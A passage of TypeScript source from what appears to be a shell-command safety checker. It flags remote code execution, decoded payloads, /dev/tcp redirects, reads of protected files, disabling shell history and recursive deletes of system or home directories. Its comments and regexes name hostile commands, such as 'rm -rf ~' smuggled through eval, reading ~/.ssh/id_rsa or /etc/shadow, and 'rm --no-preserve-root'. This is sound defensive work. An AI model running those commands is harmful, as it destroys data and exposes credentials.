export function nestedText(ctx: Ctx, sc: Scope, cmd: Cmd, text: string, at: { start: number; end: number }, label: string): void {
  analyzeScript(ctx, text, sc.depth + 1, sc.outer ?? at, label, cmd.cwd);
}

function nestedFrom(ctx: Ctx, sc: Scope, cmd: Cmd, words: readonly Word[], chain: string[], label: string): void {
  if (words.length === 0) return;
  if (words.some((w) => w.value === null)) {
    for (const w of words) if (w.value === null) dynamicScript(ctx, sc, w, label);
    return;
  }
  analyzeScript(ctx, words.map((w) => w.value).join(' '), sc.depth + 1, spanOf(sc, words[0]!, words[words.length - 1]), label, cmd.cwd);
  void chain;
}

/** A script string only known at run time: look at what produces it. */
function dynamicScript(ctx: Ctx, sc: Scope, w: Word, label: string): void {
  const inner = sc.walked.cmds.filter((c) => c.start >= w.start && c.end <= w.end);
  if (inner.some((c) => isNetworkFetch(ctx, c))) {
    add(ctx, sc, 'deny', 'exec.remote_code', `${label} runs code downloaded at run time`, w.start, w.end);
  } else if (inner.some((c) => isDecoder(c))) {
    add(ctx, sc, 'deny', 'obfuscation.decode_exec', `${label} runs decoded data`, w.start, w.end);
  } else {
    add(ctx, sc, 'deny', 'exec.dynamic_script', `${label} runs a script only known at run time (${truncate(w.raw, 40)})`, w.start, w.end);
  }
}

export function isNetworkFetch(ctx: Ctx, c: Cmd): boolean {
  const n = c.name?.value;
  if (!n) return false;
  const b = basename(n);
  if (ctx.p.networkTools.has(b)) return true;
  if (b === 'busybox' && /^(wget|nc)$/.test(c.args[0]?.value ?? '')) return true;
  if (SHELLS.has(b) || b === 'cat') return c.redirects.some((r) => /\/dev\/(tcp|udp)\//.test(r.target?.pattern ?? ''));
  return /^(python[0-9.]*|node|perl|ruby|php)$/.test(b) && c.args.some((a) => /urlopen|requests\.get|fetch\(|LWP|open-uri|file_get_contents\(['"]http/.test(a.value ?? a.raw));
}

export function isDecoder(c: Cmd): boolean {
  const n = c.name?.value;
  if (!n) return false;
  const b = basename(n);
  if (b in DECODERS) {
    const re = DECODERS[b];
    return re === null || re === undefined || c.args.some((a) => re.test(a.value ?? ''));
  }
  if (b === 'printf') return c.args.some((a) => /\\(x[0-9a-fA-F]|[0-7]{3}|u[0-9a-fA-F])/.test(a.value ?? a.raw) || a.value === '%b');
  if (b === 'echo') return c.args.some((a) => /^-[a-zA-Z]*e/.test(a.value ?? '')) && c.args.some((a) => /\\(x[0-9a-fA-F]|[0-7]{3})/.test(a.value ?? a.raw));
  return false;
}

/** What feeds a command's stdin, as far as it matters for interpreters. */
export type StdinKind = { kind: 'none' } | { kind: 'remote' } | { kind: 'decoded' } | { kind: 'text'; text: string } | { kind: 'unknown'; what: string };

export function describeStdin(ctx: Ctx, stdin: Stdin | null, depth = 0): StdinKind {
  if (!stdin) return { kind: 'none' };
  if (stdin.kind === 'text') return { kind: 'text', text: stdin.text };
  if (stdin.kind === 'dynamic') return { kind: 'unknown', what: 'a here-string built at run time' };
  if (stdin.kind === 'file') {
    const t = stdin.target?.value ?? '';
    if (/\/dev\/(tcp|udp)\//.test(t)) return { kind: 'remote' };
    return { kind: 'unknown', what: `file ${stdin.target?.raw ?? '?'}` };
  }
  let literal: string | null = null;
  for (const c of stdin.from) {
    if (isNetworkFetch(ctx, c)) return { kind: 'remote' };
    if (isDecoder(c)) return { kind: 'decoded' };
    if (depth < 8) {
      const up = describeStdin(ctx, c.stdin, depth + 1);
      if (up.kind === 'remote' || up.kind === 'decoded') return up;
    }
  }
  const only = stdin.from.length === 1 ? stdin.from[0]! : null;
  const n = only?.name?.value ? basename(only.name.value) : '';
  if (only && n === 'echo' && only.args.every((a) => a.value !== null)) {
    const parts = only.args.filter((a, i) => !(i === 0 && /^-[neE]+$/.test(a.value!))).map((a) => a.value!);
    literal = parts.join(' ');
  } else if (only && n === 'printf' && only.args.length > 0 && only.args.every((a) => a.value !== null)) {
    // printf FORMAT ARGS: only the forms whose output is plain: a format without % or \, or %s / %s\n applied to each argument.
    const [fmt, ...rest] = only.args.map((a) => a.value!);
    if (fmt === '%s' || fmt === '%s\\n') literal = rest.map((r) => (fmt === '%s' ? r : `${r}\n`)).join('');
    else if (!fmt!.includes('%') && !fmt!.includes('\\')) literal = fmt!;
  } else if (only && n === 'cat' && only.args.length === 0 && only.stdin?.kind === 'text') {
    literal = only.stdin.text;
  }
  if (literal !== null) return { kind: 'text', text: literal };
  return { kind: 'unknown', what: stdin.from.map((c) => c.name?.value ?? '?').join(', ') || 'a pipe' };
}

/** Input that is code fetched from the network or decoded from hidden text: deny, whoever runs it. True when so. */
export function stdinFromElsewhere(ctx: Ctx, sc: Scope, cmd: Cmd, who: string, s: StdinKind): boolean {
  if (s.kind === 'remote') add(ctx, sc, 'deny', 'exec.remote_code', `${who} executes code fetched from the network`, cmd.start, cmd.end);
  else if (s.kind === 'decoded') add(ctx, sc, 'deny', 'obfuscation.decode_exec', `${who} executes decoded or transformed data`, cmd.start, cmd.end);
  else return false;
  return true;
}

export function stdinScript(ctx: Ctx, sc: Scope, cmd: Cmd, who: string, asShell: boolean): void {
  if (cmd.stdin?.kind === 'dynamic') {
    dynamicScript(ctx, sc, cmd.stdin.word, `${who} <<<`);
    return;
  }
  const s = describeStdin(ctx, cmd.stdin);
  if (stdinFromElsewhere(ctx, sc, cmd, who, s)) return;
  switch (s.kind) {
    case 'text':
      if (asShell) analyzeScript(ctx, s.text, sc.depth + 1, sc.outer ?? { start: cmd.start, end: cmd.end }, `script fed to ${who}`, cmd.cwd);
      else checkCode(ctx, sc, cmd, who, langOf(who), s.text, { start: cmd.start, end: cmd.end }, INTERP_HOST);
      return;
    case 'unknown':
      add(ctx, sc, 'ask', 'exec.stdin_script', `${who} executes code read from ${s.what}`, cmd.start, cmd.end);
      markOpaque(ctx, sc, 'exec.stdin_script', `${who} executes code read from ${s.what}`, cmd.start, cmd.end);
      return;
    case 'none':
      add(ctx, sc, 'ask', 'exec.stdin_script', `${who} started without a script reads commands from its input`, cmd.start, cmd.end);
      return;
  }
}

function shell(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[], chain: string[]): void {
  let cMode = false;
  let sMode = false;
  let i = 0;
  for (; i < args.length; i++) {
    const v = args[i]!.value;
    if (v === null) break;
    if (v === '--' || v === '-') {
      i++;
      break;
    }
    if (/^[-+]O$|^[-+]o$|^--(rcfile|init-file)$/.test(v)) {
      if (/rcfile|init-file/.test(v)) add(ctx, sc, 'ask', 'exec.stdin_script', `${name} ${v} runs an extra start-up file`, cmd.start, cmd.end);
      i++;
      continue;
    }
    if (v.startsWith('--')) continue;
    if (/^[-+][a-zA-Z]+$/.test(v)) {
      if (v[0] === '-' && v.includes('c')) cMode = true;
      if (v[0] === '-' && v.includes('s')) sMode = true;
      continue;
    }
    break;
  }
  const rest = args.slice(i);
  shellStartup(ctx, sc, cmd, shellStart(name, args));
  if (cMode) {
    const script = rest[0];
    if (!script) {
      add(ctx, sc, 'deny', 'parse.error', `${name} -c without a script`, cmd.start, cmd.end);
      return;
    }
    nested(ctx, sc, cmd, script, `${name} -c`, chain);
    return;
  }
  if (sMode || rest.length === 0) {
    stdinScript(ctx, sc, cmd, name, true);
    return;
  }
  const file = rest[0]!;
  const fv = file.value ?? '';
  if (file.value === null || /^\/dev\/(stdin|fd\/\d+)$|^\/proc\/self\/fd\//.test(fv)) {
    if (file.flags & WordFlag.substitution) dynamicScript(ctx, sc, file, `${name} <(…)`);
    else if (file.value === null) add(ctx, sc, 'ask', 'exec.dynamic_script', `${name} runs a script whose path is only known at run time`, cmd.start, cmd.end);
    else stdinScript(ctx, sc, cmd, name, true);
  }
}

/** `exec -l SHELL`, `exec -a -NAME SHELL`: a login shell; `su -`, `sudo -i`, `runuser -l`, `login`: another user's (startup.ts). */
function loginWrappers(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[]): void {
  if (name === 'exec') {
    const { login, at } = execStartsLogin(args);
    const target = args[at]?.value;
    if (login && target) {
      const sh = basename(target);
      if (SHELLS.has(sh) || sh === 'busybox') shellStartup(ctx, sc, cmd, shellStart(sh, args.slice(at + 1), true));
    }
    return;
  }
  const other = otherUserLogin(name, args);
  if (other) opaque(ctx, sc, 'startup_file', other, cmd.start, cmd.end);
}

/** Interpreter commands and their code are analysed in `interp/` (real parsers, per-interpreter option parsing). */
function interpreter(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[], chain: string[]): void {
  checkInterpreter(ctx, sc, cmd, name, args, INTERP_HOST);
  void chain;
}

/** What `interp/` needs from the chain: the same path, delete, host and stdin checks shell commands get. */
const INTERP_HOST: InterpHost = {
  path: (ctx, sc, cmd, path, access, tool, at) => checkPaths(ctx, sc, cmd, literalWord(path, at), access, tool),
  recursiveDelete(ctx, sc, cmd, path, tool, at) {
    const c = critical(literalWord(path, at), cmd.cwd, ctx);
    if (c?.level === 'deny') add(ctx, sc, 'deny', 'destroy.recursive_delete', `recursive delete of ${c.path} by ${tool} code`, at.start, at.end);
    else if (c) add(ctx, sc, 'ask', 'fs.delete_workspace', `recursive delete of the workspace root or above (${c.path}) by ${tool} code`, at.start, at.end);
  },
  host: (ctx, sc, cmd, host, tool, at) => checkNetwork(ctx, sc, cmd, tool, [literalWord(`http://${host.includes(":") && !host.startsWith("[") ? `[${host}]` : host}/`, at)], []),
  stdinScript: (ctx, sc, cmd, who) => stdinScript(ctx, sc, cmd, who, false),
  dynamicScript,
  dynamicCode(ctx, sc, w, label) {
    const inner = sc.walked.cmds.filter((c) => c.start >= w.start && c.end <= w.end);
    if (inner.some((c) => isNetworkFetch(ctx, c) || isDecoder(c))) dynamicScript(ctx, sc, w, label);
    else opaque(ctx, sc, 'interp_code', `${label} is only known at run time (${truncate(w.raw, 40)})`, w.start, w.end);
  },
  pythonModule(ctx, sc, cmd, module, args) {
    if (module === 'pip') packageInstall(ctx, sc, cmd, 'pip', args);
  },
};

function literalWord(text: string, at: { start: number; end: number }): Word {
  return { start: at.start, end: at.end, raw: text, value: text, pattern: text.replace(/[*?[\\]/g, '\\$&'), flags: 0, vars: [] };
}




/** The start directories of a `find` command (its leading operands; none means `.`). */
function findRoots(args: readonly Word[]): Word[] {
  const roots: Word[] = [];
  for (const a of args) {
    const v = a.value ?? '';
    if (v.startsWith('-') || v === '(' || v === '!' || v === '\\(') break;
    roots.push(a);
  }
  return roots;
}

/**
 * Whether everything `find` visits is inside the tracked working directory, which is inside the
 * workspace: relative literal roots without `..` (or none), from a directory the walker knows.
 * An item such a find hands to `-exec` is then no unknown path (the -exec rm itself stays a question).
 */
function findConfined(ctx: Ctx, cmd: Cmd, args: readonly Word[]): boolean {
  const ws = ctx.p.policy.workspace.replace(/\/+$/, '');
  if (cmd.cwd === null || !(cmd.cwd === ws || cmd.cwd.startsWith(ws + '/'))) return false;
  return findRoots(args).every((r) => r.value !== null && !r.value.startsWith('/') && !r.value.startsWith('~') && !/(^|\/)\.\.(\/|$)/.test(r.value) && !(r.flags & WordFlag.glob));
}

/** find's own rules (its -exec family is in the capability table). */
function findCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[]): void {
  const roots = findRoots(args);
  for (let i = 0; i < args.length - 1; i++) {
    if (/^-(exec|execdir|ok|okdir)$/.test(args[i]!.value ?? '') && /^(rm|shred|unlink|mv|chmod|chown|truncate|dd|rmdir)$/.test(basename(args[i + 1]!.value ?? ''))) {
      const crit = roots.map((r) => critical(r, cmd.cwd, ctx)).find((c) => c !== null);
      if (crit?.level === 'deny') add(ctx, sc, 'deny', 'destroy.recursive_delete', `find ${args[i]!.value} ${args[i + 1]!.value} under ${crit.path}`, cmd.start, cmd.end);
      else add(ctx, sc, 'ask', 'fs.find_delete', `find ${args[i]!.value} ${args[i + 1]!.value} changes or removes every match`, cmd.start, cmd.end);
    }
  }
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.value ?? '';
    if (/^-(fprint|fprint0|fprintf|fls)$/.test(v) && args[i + 1]) {
      checkPaths(ctx, sc, cmd, args[i + 1]!, 'write', 'find');
      add(ctx, sc, 'ask', 'fs.find_write', `find ${v} writes a file`, cmd.start, cmd.end);
    }
    if (v === '-delete') {
      const crit = roots.map((r) => critical(r, cmd.cwd, ctx)).find((c) => c !== null);
      if (crit && crit.level === 'deny') add(ctx, sc, 'deny', 'destroy.recursive_delete', `find -delete under ${crit.path}`, cmd.start, cmd.end);
      else add(ctx, sc, 'ask', 'fs.find_delete', 'find -delete removes every match', cmd.start, cmd.end);
    }
  }
}

function evalCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[], chain: string[]): void {
  if (args.length === 0) return;
  if (args.every((a) => a.value !== null)) {
    analyzeScript(ctx, args.map((a) => a.value).join(' '), sc.depth + 1, spanOf(sc, args[0]!, args[args.length - 1]), 'eval', cmd.cwd);
    return;
  }
  const only = args.length === 1 ? args[0]! : null;
  if (only) {
    const m = /^"?\$\(\s*([^()]*)\)"?$/s.exec(only.raw);
    // One producer only: `eval "$(brew shellenv; echo 'rm -rf ~')"` evals the echo's output too.
    const producers = sc.walked.cmds.filter((c) => c.inSubstitution && c.start >= only.start && c.end <= only.end).length;
    if (m && ((producers === 1 && EVAL_SAFE.test(m[1]!.trim())) || generatesShellCode(ctx, sc, only))) return;
  }
  for (const a of args) if (a.value === null) dynamicScript(ctx, sc, a, 'eval');
  void chain;
}

/**
 * `eval "$(gh completion -s bash)"`, `eval "$(direnv hook bash)"`: the text comes from a local
 * program asked for its shell integration, so eval runs that program's own code, no more than
 * running the program does. Not when the producer reads files, decodes, or fetches (`cat`, `base64`,
 * `curl`): then the code is data from somewhere else.
 */
function generatesShellCode(ctx: Ctx, sc: Scope, w: Word): boolean {
  const inner = sc.walked.cmds.filter((c) => c.inSubstitution && c.start >= w.start && c.end <= w.end);
  if (inner.length !== 1) return false;
  const c = inner[0]!;
  const name = c.name?.value;
  if (!name || c.stdin || c.redirects.length > 0 || READS_OR_DECODES.has(basename(name)) || isNetworkFetch(ctx, c) || isDecoder(c)) return false;
  const words = c.args.map((a) => a.value);
  if (words.some((x) => x === null)) return false;
  return words.some((x) => /^(--?)?(completions?|shellenv|shell-init|init|hook|activate|env|setup-shell)$/.test(x!)) && words.every((x) => /^[\w.=:/-]*$/.test(x!));
}
const READS_OR_DECODES = new Set(['cat', 'echo', 'printf', 'head', 'tail', 'base64', 'base32', 'xxd', 'od', 'openssl', 'gpg', 'tr', 'rev', 'sed', 'awk', 'perl', 'python', 'python3', 'node', 'ruby', 'sh', 'bash', 'zsh', 'env', 'printenv', 'git', 'tee', 'dd', 'zcat', 'gunzip', 'bzcat', 'xzcat', 'xargs', 'find']);

function sourceCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[]): void {
  const f = args[0];
  if (!f) return;
  const v = f.value ?? '';
  if (f.value === null && f.flags & WordFlag.substitution) {
    dynamicScript(ctx, sc, f, 'source <(…)');
  } else if (/^(\/dev\/stdin|-|\/dev\/fd\/\d+|\/proc\/self\/fd\/\d+)$/.test(v)) {
    stdinScript(ctx, sc, cmd, 'source', true);
  } else if (/^(\/tmp|\/var\/tmp|\/dev\/shm)\//.test(v)) {
    add(ctx, sc, 'ask', 'exec.untrusted_source', `sources a script from a temporary directory (${v})`, cmd.start, cmd.end);
  }
}

function aliasCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[]): void {
  for (const a of args) {
    const m = /^([^=]+)=(.*)$/s.exec(a.value ?? a.raw);
    if (!m) continue;
    if (KNOWN_COMMANDS.has(m[1]!)) {
      add(ctx, sc, 'deny', 'shell.alias_shadowing', `alias redefines "${m[1]}" as "${truncate(m[2]!, 40)}"`, a.start, a.end);
    } else {
      add(ctx, sc, 'ask', 'shell.alias', `defines alias ${m[1]}`, a.start, a.end);
    }
    analyzeScript(ctx, m[2]!, sc.depth + 1, spanOf(sc, a), 'alias body', cmd.cwd);
  }
}

function setCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[]): void {
  if (args.length === 0) {
    envDump(ctx, sc, cmd, 'set');
    return;
  }
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.value ?? '';
    if (v === '+o' && args[i + 1]?.value === 'history') add(ctx, sc, 'deny', 'antiforensics.history', 'turns shell history off', cmd.start, cmd.end);
  }
}

// ---------------------------------------------------------------------------
// paths

const UPLOAD_TOOLS = new Set(['curl', 'http', 'https', 'httpie', 'xh']);

/**
 * The paths a word may name: its pattern (and each alternative when a loop
 * variable has several values), resolved against every directory the
 * command may run in (globs too: `cd ~/.ssh && cat *` reads `~/.ssh/*`),
 * with symbolic links made earlier in the command replaced by their targets.
 */
function pathCandidates(w: Word, cmd: Cmd, tool: string): string[] {
  const out: string[] = [];
  const pats = w.alts ? [w.pattern, ...w.alts] : [w.pattern];
  for (let p of pats) {
    // curl -d @file, -F f=@file, wget --post-file=file, dd if=file.
    if (UPLOAD_TOOLS.has(tool)) p = p.replace(/^[^@=<]*=[@<]|^@/, '');
    if (tool === 'dd') p = p.replace(/^(if|of)=/, '');
    if (p.charCodeAt(0) === 45) p = p.replace(/^--?[A-Za-z-]+=/, '');
    if (!p) continue;
    out.push(p);
    if (!p.startsWith('/') && !p.startsWith('~') && !p.includes(UNKNOWN)) {
      for (const dir of cmd.cwdAlt.length ? [cmd.cwd, ...cmd.cwdAlt] : [cmd.cwd]) {
        const abs = dir === null ? null : resolvePath(dir, p);
        if (abs && !out.includes(abs)) out.push(abs);
      }
    } else if (p.startsWith('/') || p.startsWith('~/')) {
      const norm = resolvePath(null, p);
      if (norm && norm !== p) out.push(norm);
    }
  }
  if (cmd.links.size > 0) {
    for (let i = 0, n = out.length; i < n; i++) {
      const t = resolveLink(cmd.links, out[i]!);
      if (t !== out[i] && !out.includes(t)) out.push(t);
    }
  }
  return out;
}

/**
 * Tools that print, copy or change the content of the files named by their
 * operands (a path only known at run time is opaque there). Tools that only
 * report sizes, hashes or types (`wc`, `stat`, `file`, `sha256sum`) are not.
 */
const FILE_OPERAND_TOOLS = new Set([
  'cat', 'tac', 'head', 'tail', 'less', 'more', 'nl', 'od', 'xxd', 'hexdump', 'strings', 'base64', 'base32', 'cp', 'mv', 'ln', 'install',
  'rsync', 'scp', 'tee', 'sponge', 'dd', 'tar', 'zip', 'unzip', 'gzip', 'gunzip', 'zcat', 'bzip2', 'xz', 'source', '.', 'chmod', 'chown',
  'truncate', 'shred', 'diff', 'sort', 'uniq', 'cut', 'paste', 'openssl', 'gpg', 'curl', 'wget', 'sed', 'awk', 'grep', 'egrep', 'fgrep', 'rg', 'jq', 'yq', 'vi', 'vim', 'nano', 'emacs', 'code',
]);

/**
 * `opaque.unknown_path`: a file operand with a part the command produces at
 * run time ({@link Word.free}) could name any file, protected ones included
 * (`cat "$(printf '%s/.ssh/id_rsa' ~)"`, `read -r f; cat "$f"`). Parts from
 * variables with known values, the fixed environment, `$HOME`/`$PWD`/`$TMPDIR`,
 * loops over literal words or workspace globs, and confined substitutions
 * (`$(pwd)`, `$(git rev-parse --show-toplevel)`, `$(mktemp)`, listings
 * under a relative directory) are not free.
 */
function unknownPath(ctx: Ctx, sc: Scope, w: Word, access: 'read' | 'write', tool: string): void {
  if (!w.free || !w.pattern.includes(UNKNOWN) || !FILE_OPERAND_TOOLS.has(tool)) return;
  opaque(ctx, sc, 'unknown_path', `${tool} ${access === 'write' ? 'writes' : 'reads'} a path only known at run time (${truncate(w.raw, 50)}); it could name a protected file`, w.start, w.end);
}

export function checkPaths(ctx: Ctx, sc: Scope, cmd: Cmd, w: Word, access: 'read' | 'write', tool: string): void {
  const set = access === 'read' ? ctx.p.readRules : ctx.p.writeRules;
  const v = w.value;
  // Plain options (`-la`, `--verbose`) are never paths.
  if (v !== null && v.charCodeAt(0) === 45 && !v.includes('=') && !v.includes('/')) return;
  const cands = pathCandidates(w, cmd, tool);
  if (cands.length === 0) return;
  // Every directory the command may run in gives a path it may touch.
  let recorded = false;
  for (let i = cands.length - 1; i >= 1; i--) {
    const c = cands[i]!;
    if ((c.startsWith('/') || c.startsWith('~')) && !c.includes(UNKNOWN)) {
      recordPath(ctx, access, c);
      recorded = true;
    }
  }
  if (!recorded) recordPath(ctx, access, cands[cands.length - 1]!);
  unknownPath(ctx, sc, w, access, tool);
  const glob = (w.flags & WordFlag.glob) !== 0;
  if (!glob && !cands.some((c) => set.any.test(c))) return;
  for (const r of set.rules) {
    if (r.rule.id === 'exfil.env_file_read' && ENV_SOFT_READ.has(tool)) continue;
    // Deleting a hook or a start-up file installs nothing: persistence needs content.
    if (access === 'write' && (tool === 'rm' || tool === 'rmdir' || tool === 'unlink') && r.rule.id.startsWith('persistence.') && r.rule.id !== 'persistence.ssh_keys') continue;
    let hit: string | null = null;
    for (const c of cands) {
      if (r.except?.test(c)) continue;
      if (r.matcher.test(c)) {
        hit = c;
        break;
      }
      if (glob && globHits(c, r.patterns)) {
        hit = c;
        break;
      }
    }
    if (hit !== null) {
      add(ctx, sc, r.rule.verdict, r.rule.id, `${r.rule.reason}: ${tool} ${access === 'write' ? '→' : ''}${truncate(w.value ?? w.raw, 60)}`, w.start, w.end);
    }
  }
}

// A glob argument counts only when its last segment spells most of a name
// (`/e*/sh*w`, `.dev.*`): bulk globs like `*`, `.*` or `src/*.py` are not
// attempts to name a protected file.
function globSpellsName(c: string): boolean {
  const last = c.slice(c.lastIndexOf('/') + 1);
  return (last.replace(/\[[^\]]*\]|[*?]/g, '').match(/[A-Za-z0-9]/g)?.length ?? 0) >= 2 && !/\.(py|ts|js|tsx|jsx|md|sh|sql|json|txt|rs|go|java|c|h|cpp|rb|yml|yaml|html|css|log|spec\.ts|test\.ts)$/.test(last);
}

// `**/id_rsa*` → `**/id_rsa`: compare globs against the protected name itself.
function concreteName(pat: string): string | null {
  const c = pat.replace(/(\/\*\*|\*)+$/, '');
  return /[*?[]/.test(c.startsWith('**/') ? c.slice(3) : c) ? null : c;
}

let lastGlob = '';
let lastGlobTokens: GlobTokens = argumentGlob('');

function globHits(c: string, patterns: readonly string[]): boolean {
  const spells = globSpellsName(c);
  // A bulk glob (`*`, `./*`) still names a protected file whose directory the
  // policy spells out (`cd /etc && cat *` reads /etc/shadow).
  if (!spells && !/^[/~]/.test(c)) return false;
  // checkPaths asks once per rule for the same candidate: tokenise it once.
  if (c !== lastGlob) {
    lastGlob = c;
    lastGlobTokens = argumentGlob(c);
  }
  const tc = lastGlobTokens;
  for (const g of compiledGlobs(patterns)) {
    if (!spells && !g.hasDir) continue;
    // `**/x` matches `x` itself or `…/x` (a whole last segment).
    if (tokensIntersect(tc, g.whole) || (g.tail !== null && tokensIntersect(tc, g.tail))) return true;
  }
  return false;
}

/** A rule's patterns as {@link globHits} compares them: concrete names tokenised once per pattern list. */
interface CompiledGlob {
  readonly whole: GlobTokens;
  /** For a name under any directory (written with a leading double star and slash): the name alone. */
  readonly tail: GlobTokens | null;
  /** The name has a directory part of its own: a bulk glob (`*`, `./*`) can still name it. */
  readonly hasDir: boolean;
}

const compiledPatterns = new WeakMap<readonly string[], readonly CompiledGlob[]>();

function compiledGlobs(patterns: readonly string[]): readonly CompiledGlob[] {
  let out = compiledPatterns.get(patterns);
  if (out === undefined) {
    const list: CompiledGlob[] = [];
    for (const pat of patterns) {
      const n = concreteNameCached(pat);
      if (n === null) continue;
      list.push({ whole: policyGlob(n), tail: n.startsWith('**/') ? policyGlob(n.slice(3)) : null, hasDir: /\//.test(n.replace(/^\*\*\//, '')) });
    }
    out = list;
    compiledPatterns.set(patterns, out);
  }
  return out;
}

const concreteNames = new Map<string, string | null>();

function concreteNameCached(pat: string): string | null {
  let n = concreteNames.get(pat);
  if (n === undefined) {
    n = concreteName(pat);
    if (concreteNames.size < 4096) concreteNames.set(pat, n);
  }
  return n;
}

const WRITE_TARGET_TOOLS = new Set([
  'tee', 'touch', 'truncate', 'rm', 'rmdir', 'unlink', 'shred', 'mkdir', 'cp', 'mv', 'install', 'ln', 'rsync', 'chmod', 'chown', 'chgrp',
  'dd', 'sed', 'gsed', 'perl', 'curl', 'wget', 'sort', 'sponge',
]);

/**
 * Where `cp`/`mv`/`install`/`ln`/`rsync` write: the destination, and — since
 * it may be a directory (`-t DIR`, `--target-directory=DIR`, `-tDIR`, a
 * trailing `/`, several sources, or simply an existing directory) — each
 * source's name inside it (`cp x.json .claude/` writes `.claude/x.json`).
 */
function copyTargets(name: string, args: readonly Word[], pos: readonly Word[]): Word[] {
  let dir: Word | null = null;
  let sources: readonly Word[] = pos;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    const v = a.value ?? '';
    if ((v === '-t' || v === '--target-directory') && args[i + 1]) {
      dir = args[i + 1]!;
      sources = pos.filter((x) => x !== dir);
      break;
    }
    // `--target-directory=DIR`, `-tDIR`.
    const m = /^(?:--target-directory=|-t)(.+)$/s.exec(v);
    if (m) {
      const text = m[1]!;
      dir = { ...a, raw: text, value: text, pattern: a.pattern.slice(a.pattern.length - text.length) };
      sources = pos;
      break;
    }
  }
  if (dir === null) {
    if (pos.length < 2 && !(name === 'ln' && pos.length === 1)) return [];
    dir = pos.length >= 2 ? pos[pos.length - 1]! : null;
    sources = pos.length >= 2 ? pos.slice(0, -1) : pos;
    if (dir === null) return [];
  }
  const out: Word[] = [dir];
  for (const s of sources) out.push(joinTarget(dir, s));
  return out;
}

/** `dir/basename(src)` as a word spanning `dir`. */
function joinTarget(dir: Word, src: Word): Word {
  const base = (p: string): string => p.replace(/\/+$/, '').slice(p.replace(/\/+$/, '').lastIndexOf('/') + 1);
  const d = (p: string): string => p.replace(/\/+$/, '');
  const pattern = d(dir.pattern) + '/' + base(src.pattern);
  const value = dir.value !== null && src.value !== null ? d(dir.value) + '/' + base(src.value) : null;
  return { ...dir, value, pattern, flags: dir.flags | (src.flags & WordFlag.glob), ...(dir.free || src.free ? { free: true as const } : {}) };
}

/** Files a command writes (beyond shell redirects). */
function writeTargets(name: string, args: readonly Word[]): Word[] {
  if (!WRITE_TARGET_TOOLS.has(name)) return [];
  const pos = positionals(args);
  switch (name) {
    case 'tee':
    case 'touch':
    case 'truncate':
    case 'rm':
    case 'rmdir':
    case 'unlink':
    case 'shred':
    case 'mkdir':
      return pos;
    case 'cp':
    case 'mv':
    case 'install':
    case 'ln':
    case 'rsync':
      return copyTargets(name, args, pos);
    case 'sponge':
      return pos.slice(0, 1);
    case 'chmod':
    case 'chown':
    case 'chgrp':
      return pos.slice(1);
    case 'dd':
      return args.filter((a) => (a.value ?? '').startsWith('of='));
    case 'sed':
    case 'gsed':
    case 'perl':
      if (args.some((a) => /^-[a-zA-Z]*i|^--in-place/.test(a.value ?? ''))) return pos.slice(1);
      return [];
    case 'curl':
    case 'wget': {
      const out: Word[] = [];
      for (let i = 0; i < args.length; i++) {
        if (/^(-o|--output|-O|--output-document)$/.test(args[i]!.value ?? '') && args[i + 1] && !(name === 'curl' && args[i]!.value === '-O')) out.push(args[i + 1]!);
      }
      return out;
    }
    case 'sort':
      return args.flatMap((a, i) => (a.value === '-o' && args[i + 1] ? [args[i + 1]!] : []));
    default:
      return [];
  }
}

// ---------------------------------------------------------------------------
// destructive operations

const SYSTEM_TOP = /^\/(etc|usr|var|home|Users|root|bin|sbin|lib|lib32|lib64|boot|opt|srv|sys|proc|dev|mnt|media|snap|private|System|Library|Applications)$/;

function critical(w: Word, cwd: string | null, ctx: Ctx): { path: string; level: 'deny' | 'ask' } | null {
  let p = w.pattern;
  if (p.includes(UNKNOWN)) {
    const base = p.split(UNKNOWN)[0]!;
    // `"$HOME"/*`, `$DIR/..`: judge by the known prefix only when nothing follows the unknown part.
    if (base === '' && !/^\u0001\/?$/.test(p)) return null;
    if (base !== '') p = base;
    else return null;
  }
  const relative = !p.startsWith('/') && !p.startsWith('~');
  p = p.replace(/(\/\.?\*)+$|\/+$/g, '') || (p.startsWith('/') ? '/' : p);
  if (p === '*' || p === '.*' || p === './*') p = '.';
  const abs = resolvePath(cwd, p);
  const ws = ctx.p.policy.workspace.replace(/\/+$/, '');
  if (abs === null) {
    if (/^(\.\.)(\/\.\.)*$/.test(p)) return { path: p, level: 'ask' };
    return null;
  }
  if (abs === ws) return { path: abs, level: 'ask' };
  if (abs === '/' || abs === '~/' || abs === '~') return { path: abs, level: 'deny' };
  if (/^~\/[^/]+$/.test(abs)) return { path: abs, level: 'deny' };
  if (SYSTEM_TOP.test(abs)) return { path: abs, level: 'deny' };
  // A relative path only lands at the top level because we assumed the
  // start directory; a person can judge that.
  if (/^\/[^/]+$/.test(abs)) return { path: abs, level: relative ? 'ask' : 'deny' };
  if (/^\/(home|Users)\/[^/]+(\/[^/]+)?$/.test(abs)) return { path: abs, level: 'deny' };
  if (/^\/(etc|usr|var|boot|lib|lib64|bin|sbin|opt|root|srv|sys|proc|dev)\/[^/]+$/.test(abs)) return { path: abs, level: 'deny' };
  if (abs === ws || (cwd !== null && (cwd + '/').startsWith(abs + '/') && abs !== cwd)) return { path: abs, level: abs === ws ? 'ask' : 'deny' };
  return null;
}

function checkDestructive(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[]): void {
  if (name === 'mv') {
    // Moving a tree away destroys it where it was (`mv ~ /tmp/x`).
    const pos = positionals(args);
    for (const t of pos.slice(0, -1)) {
      const c = critical(t, cmd.cwd, ctx);
      if (c?.level === 'deny') add(ctx, sc, 'deny', 'destroy.recursive_delete', `mv moves ${c.path} away`, t.start, t.end);
    }
    return;
  }
  if (name === 'rm' || name === 'chmod' || name === 'chown' || name === 'chgrp' || name === 'shred' || name === 'rmdir') {
    if (args.some((a) => a.value === '--no-preserve-root')) {
      add(ctx, sc, 'deny', 'destroy.recursive_delete', `${name} --no-preserve-root`, cmd.start, cmd.end);
      return;
    }
